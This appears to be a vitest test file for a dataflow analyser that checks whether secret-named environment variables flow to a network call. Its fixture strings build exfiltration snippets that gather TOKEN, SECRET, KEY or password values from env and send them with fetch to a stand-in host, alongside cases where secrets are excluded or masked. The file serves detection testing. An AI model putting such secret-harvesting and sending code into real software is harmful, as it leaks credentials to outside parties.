import { expect, test } from 'vitest';
import { flows, follow } from '../sample.js';

const SEND = "fetch('https://a.example', { body: JSON.stringify(out) })";

/** An exported function that sends what it has made of an object that somebody gave. */
const sending = (body: string): boolean =>
  flows(follow(`exports.run = (env) => { ${body}; ${SEND} }`), 'param.secret', 'net.out') !== undefined;

test.each([
  ['entries that are kept', 'const out = Object.entries(env).filter(([name]) => /TOKEN|SECRET/.test(name))'],
  ['keys that are kept', 'const out = Object.keys(env).filter((k) => /token/i.test(k)).map((k) => env[k])'],
  ['in a loop', 'const out = {}; for (const [k, v] of Object.entries(env)) { if (/_KEY$/.test(k)) out[k] = v }'],
  ['of keys', 'const RE = /passw/i; const out = []; for (const k in env) if (RE.test(k)) out.push(env[k])'],
])('%s by names of secrets are secrets', (_name, body) => {
  expect(sending(body)).toBe(true);
});

test.each([
  ['left out', 'const out = Object.entries(env).filter(([name]) => !/TOKEN|SECRET/.test(name))'],
  [
    'skipped',
    'const out = {}; for (const [k, v] of Object.entries(env)) { if (/TOKEN/.test(k)) continue; out[k] = v }',
  ],
  [
    'masked',
    "const out = {}; for (const [k, v] of Object.entries(env)) { if (/TOKEN/.test(k)) out[k] = '*'; else out[k] = v }",
  ],
  ['other names', 'const out = Object.entries(env).filter(([name]) => /COLOR|THEME/.test(name))'],
])('%s, they are not', (_name, body) => {
  expect(sending(body)).toBe(false);
});
